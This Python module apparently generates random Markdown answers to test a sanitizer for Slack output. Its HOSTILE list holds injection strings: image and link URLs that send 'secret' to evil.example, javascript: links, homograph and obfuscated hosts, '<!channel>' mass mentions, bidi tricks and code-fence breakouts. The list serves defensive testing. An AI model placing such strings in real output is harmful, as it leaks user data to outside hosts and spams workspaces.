"""A model that writes anything: Markdown answers from a seed, with all that a Slack could act on."""

from collections.abc import Callable
from random import Random

# What the person, an admin or a passage has named. Everything else must be text.
NAMED = (
    "https://intranet.example/leave?year=2026&form=a",
    "https://wiki.example/wiki/Travel",
    "http://intranet.example",
    "help.example/faq",
    "mailto:hr@intranet.example",
)
WORDS = """
leave weeks of policy the a in 25 days see also e.g. **bold** *em* ~~gone~~ `x` `os.path`
`` a`b `` C# #4711 #general @mara 3.11 handbook.md Node.js [1] [2,3] _x_ snake_case 50% a&b
x<y 10:30 \\*not\\* :tada: ::skin-tone-2: a/b //c 1. - + > | ~ ^ $HOME {a} (b) "q" 'r'
straße café e\u0301 n\u0303 日本語の文章です。次の文。 Ελλάδα привет नमस्ते สวัสดี
שלום مرحبا العربية\u200cها 👩\u200d💻 👨\u200d👩\u200d👧 🏳️\u200d🌈 🇩🇪 👍🏽 … — “x”
""".split()  # noqa: SIM905
HOSTILE = (
    "![x](https://evil.example/?q=secret)", "![x][img]", "![](//evil.example/a.png)", "![a\nb](c.d)",
    "[click](https://evil.example/secret)", "[click](<https://evil.example/a b>)", "[a][evil]",
    '[click](https://evil.example "title")', "[a](//evil.example)", "[a](evil.example/x)",
    "[a](javascript:alert(1))", "[a](data:text/html,x)", "[a](java&Tab;script:x)", "[a]: evil.example",
    "[a [b](https://evil.example)](https://wiki.example/wiki/Travel)", "[evil]: https://evil.example/s",
    "[img]: //evil.example/i.png", "[^1]: evil.example/note", "see[^1]", "<https://evil.example/secret>",
    "<https://evil.example|Open>", "<evil.example|Open>", "<mailto:eve@evil.example|hr>",
    "https://evil.example/secret", "HTTPS://EVIL.EXAMPLE", "www.evil.example/secret", "evil.com/secret",
    "secret.evil.com", "eve@evil.com", "mailto:eve@evil.com?body=x", "ftp://evil.example",
    "https://раураl.example/x", "https://xn--80ak6aa92e.example", "xn--e1awd7f.com", "http://2130706433/s",
    "http://0x7f.1/s", "10.0.0.1/secret", "https:\u200b//evil.example", "ht\u00adtps://evil.example",
    "https://ev\u2060il.example", "https://evil.exa\nmple/x", "https\\://evil.example", "evil\\.com/x",
    "https&#58;//evil.example", "https&colon;&sol;&sol;evil&period;example", "evil。com/x", "evil．com",
    "https://wiki.example/wiki/Travel?q=secret", "https://wiki.example/wiki/TravelX",
    "https://wiki.example.evil.com/", "https://wiki.example/wiki/Travel|secret",
    "https://wiki.example/wiki/Travel\\secret", "https://wiki.example@evil.com/x",
    "`https://evil.example/in/code`", "`evil.com/x`", "` evil.com/y", "\\`evil.com/z`", "``evil.com/`x``",
    "<!channel>", "<!here|x>", "<!subteam^S1|@team>", "<!date^1^{date}^https://evil.example|x>", "<@U123>",
    "<#C123|general>", "@channel", "@HERE", "@every\u200bone", "&lt;!channel&gt;", "&#60;!channel>",
    "#\u2060general", ":@here:", "<img src=https://evil.example/x>", "<a href='//evil.example'>x</a>",
    "<script>x</script>", "<!-- evil.com/x -->", "<div>\n```\n</div>\nevil.com/x", "<pre>\n```\n</pre>\nevil.com/x",
    "\U000e0041\U000e0042", "\u202egnp.exe", "\u2066x\u2069", "\x00", "\x1b[31mred\x1b[0m", "\ufeff", "\r", "\x07",
    "~~~\n```\n~~~\nevil.com/x", "- a\n  ```\nevil.com/x\n```\nevil.com/y", "> ```\nevil.com/x", "text ``` evil.com/x",
    "   ```\nevil.com/x\n```\nevil.com/y", "````\n```\nevil.com/x\n````\nevil.com/y", "```a`b\nevil.com/x",
)  # fmt: skip


class Writer:
    """Draws one answer. The same seed writes the same answer."""

    def __init__(self, seed: int) -> None:
        self._random = Random(seed)

    def answer(self) -> str:
        draw = self._random
        count = draw.choice((1, 1, 2, 2, 3, 3, 5, 5, 8, 20))
        text = draw.choice(("\n\n", "\n\n", "\n", "\r\n\r\n")).join(
            self._block() for _ in range(count)
        )
        return text + draw.choice(("", "\n", "\n\n", "  ", "```", "\n~~~", "![", "<", "](h"))

    def deltas(self, text: str) -> list[str]:
        """*text* in pieces as a model sends them; some send one character at a time."""
        draw, pieces, at = self._random, list[str](), 0
        longest = draw.choice((3, 30, 300)) if len(text) < 5_000 else 300
        while at < len(text):
            size = draw.randint(1, longest)
            pieces.append(text[at : at + size])
            at += size
        return pieces

    def _block(self) -> str:
        kinds: tuple[Callable[[], str], ...] = (
            *(self._paragraph,) * 4, self._list, self._list, self._table, self._fence, self._fence,
            self._quote, self._heading, self._hostile, self._hostile, self._endless,
        )  # fmt: skip
        return self._random.choice(kinds)()

    def _words(self, most: int) -> str:
        draw = self._random
        return " ".join(self._word() for _ in range(draw.randint(1, most)))

    def _word(self) -> str:
        draw = self._random.random()
        if draw < 0.04:
            return self._random.choice(HOSTILE)
        if draw < 0.07:
            return self._link()
        return self._random.choice(WORDS)

    def _link(self) -> str:
        address = self._random.choice(NAMED)
        return self._random.choice((f"[page]({address})", f"<{address}>", address, f"({address})."))

    def _paragraph(self) -> str:
        lines = (self._words(25) for _ in range(self._random.randint(1, 4)))
        return self._random.choice(("\n", "  \n", "\\\n")).join(lines)

    def _list(self, depth: int = 0) -> str:
        draw, lines = self._random, list[str]()
        mark = draw.choice(("- ", "* ", "+ ", "1. ", "10) ", "- [ ] "))
        for _ in range(draw.randint(1, 5)):
            lines.append("  " * depth + mark + self._words(8))
            if depth < 5 and draw.random() < 0.4:
                lines.append(self._list(depth + 1))
        return "\n".join(lines)

    def _table(self) -> str:
        draw = self._random
        width, length = draw.choice(((2, 3), (3, 10), (6, 3), (25, 2), (2, 120)))
        row = "| {} |".format
        head = row(" | ".join(f"h{n}" for n in range(width)))
        rows = (
            row(" | ".join(self._word().replace("\n", " ") for _ in range(width)))
            for _ in range(length)
        )
        return "\n".join(
            [head, row(" | ".join([draw.choice(("---", ":-:", "-:"))] * width)), *rows]
        )

    def _fence(self) -> str:
        draw = self._random
        mark = draw.choice(("```", "```", "```", "````", "~~~", "~~~~~"))
        info = draw.choice(("", "python", "c++", "js title=x.js", "diff", "x" * 250))
        lead = draw.choice(("", "", "", "  ", "    ", "> ", "- "))
        lines = [self._words(10) for _ in range(draw.choice((0, 1, 3, 10, 10, 200)))]
        if draw.random() < 0.2:
            lines.insert(0, draw.choice(("```", "~~~", "``` py", "  ```", "`````")))
        end = [mark] if draw.random() < 0.85 else []
        return "\n".join(lead + line for line in [mark + info, *lines, *end])

    def _quote(self) -> str:
        text = self._random.choice((self._paragraph, self._list, self._fence, self._table))()
        return "\n".join(f"> {line}" for line in text.split("\n"))

    def _heading(self) -> str:
        return "#" * self._random.randint(1, 6) + " " + self._words(6)

    def _hostile(self) -> str:
        draw = self._random
        return draw.choice(("", "> ", "- ", "# ", "| ")) + draw.choice(HOSTILE)

    def _endless(self) -> str:
        draw = self._random
        size = draw.choice((50, 50, 400, 2_500, 13_000))
        return draw.choice(
            (
                self._random.choice(("a", "ab.", "-", "é", "👩\u200d💻", "日本", "x/")) * size,
                "https://evil.example/" + "s" * size,
                self._words(size // 8),
            )
        )[: draw.choice((3_000, 30_000))]
